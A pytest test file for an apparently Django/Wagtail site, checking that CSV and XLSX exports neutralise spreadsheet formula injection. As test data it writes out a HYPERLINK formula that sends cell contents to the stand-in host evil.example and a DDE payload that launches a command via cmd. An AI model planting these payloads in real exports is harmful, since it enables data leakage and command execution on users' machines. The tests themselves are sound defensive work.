"""No export of the site hands Excel a live formula; CSV opens in Russian Excel as it is.

Covers the site's own exports (skills matrix CSV/XLSX, programme results XLSX, payroll
hours) and the Wagtail admin's (our view sets and Wagtail's own reports), all of which go
through :mod:`cms.spreadsheets`.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from cms.spreadsheets import safe_value
from mentoring.models import Idea, Participant
from mentoring.roles import Role
from skills import services
from skills.models.mastery import Lens
from tests.mentoring.factories import PairFactory, ParticipantFactory, PlantFactory
from tests.skills.factories import tool

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "+7(900)1112233",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(response):
    data = _body(response)
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark for Excel"
    assert "charset=utf-8" in response["Content-Type"]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert len(rows[0]) > 1, "fields separated by ';'"
    return [cell for row in rows for cell in row]


def _xlsx_cells(response):
    book = load_workbook(io.BytesIO(_body(response)))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                cells.append(cell.value)
    return cells


def _assert_neutralised(cells):
    texts = [c for c in cells if isinstance(c, str)]
    for value in texts:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    for hostile in HOSTILE[:4]:
        assert any(hostile in value for value in texts), hostile


def test_safe_value_keeps_numbers_and_quotes_formulas():
    for hostile in HOSTILE:
        assert safe_value(hostile) == "'" + hostile
    assert safe_value("Лебедев") == "Лебедев"
    assert safe_value(-5) == -5
    assert safe_value(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_value(datetime.date(2026, 1, 2)) == datetime.date(2026, 1, 2)
    assert safe_value(None) is None
    assert safe_value("a\x00b\x07c") == "abc"


@pytest.fixture
def hostile_world(db):
    """A pair whose mentee's name and plant, and ideas whose titles, start with formulas."""
    pair = PairFactory()
    user = pair.mentee.user
    user.last_name, user.first_name = HOSTILE[0], HOSTILE[1]
    user.save()
    plant = pair.mentee.plant
    plant.name = HOSTILE[3]
    plant.save()
    Participant.objects.filter(pk=pair.mentee.pk).update(
        personnel_number=HOSTILE[2], position=HOSTILE[3]
    )
    services.record_level(pair.mentee, tool("Power BI"), Lens.MENTOR, 2, by=pair.mentor.user)
    for title in HOSTILE:
        Idea.objects.create(author=pair.mentee, pair=pair, title=title, description=title)
    hr = ParticipantFactory(roles=[Role.HR_ADMIN, Role.HR_EDITOR])
    return pair, hr


def test_matrix_exports_of_the_mentor_are_neutralised(client, hostile_world):
    pair, _hr = hostile_world
    client.force_login(pair.mentor.user)
    _assert_neutralised_names(_csv_cells(client.get(reverse("skills_matrix_csv"))))
    cells = _xlsx_cells(client.get(reverse("skills_matrix_xlsx")))
    _assert_neutralised_names(cells)
    assert 2 in cells, "levels stay numbers"


def _assert_neutralised_names(cells):
    texts = [c for c in cells if isinstance(c, str)]
    assert any(HOSTILE[0] in value for value in texts)
    for value in texts:
        assert not value.startswith(("=", "+", "-", "@")), value


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("viewset", ["ideas", "participants", "pairs"])
def test_admin_exports_are_neutralised(client, hostile_world, viewset, export):
    _pair, hr = hostile_world
    client.force_login(hr.user)
    response = client.get(reverse(f"{viewset}:index"), {"export": export})
    assert response.status_code == 200
    cells = _csv_cells(response) if export == "csv" else _xlsx_cells(response)
    texts = [c for c in cells if isinstance(c, str)]
    for value in texts:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    if viewset == "ideas":
        _assert_neutralised(cells)
    else:
        assert any(HOSTILE[0] in value for value in texts)


def test_wagtail_own_report_export_is_neutralised(client, db, django_user_model):
    """A Wagtail report (not one of our view sets) goes through the same module."""
    from wagtail.models import Page

    admin = django_user_model.objects.create_superuser("it", "it@example.com", "x")
    home = Page.objects.get(depth=2)
    home.title = HOSTILE[0]
    home.locked, home.locked_by = True, admin
    home.save()
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"})
    cells = _csv_cells(response)
    assert "'" + HOSTILE[0] in cells
    assert not any(c.startswith("=") for c in cells)
    response = client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": "xlsx"})
    assert "'" + HOSTILE[0] in _xlsx_cells(response)


def test_results_xlsx_neutralises_plant_names(client, db, settings):
    plant = PlantFactory(name="=cmd|' /C calc'!A0")
    for _ in range(6):
        PairFactory(mentee__plant=plant, mentee__department__plant=plant)
    hr = ParticipantFactory(roles=[Role.HR_ADMIN, Role.HR_EDITOR])
    client.force_login(hr.user)
    cells = _xlsx_cells(client.get(reverse("programme_results_xlsx")))
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith("="), value
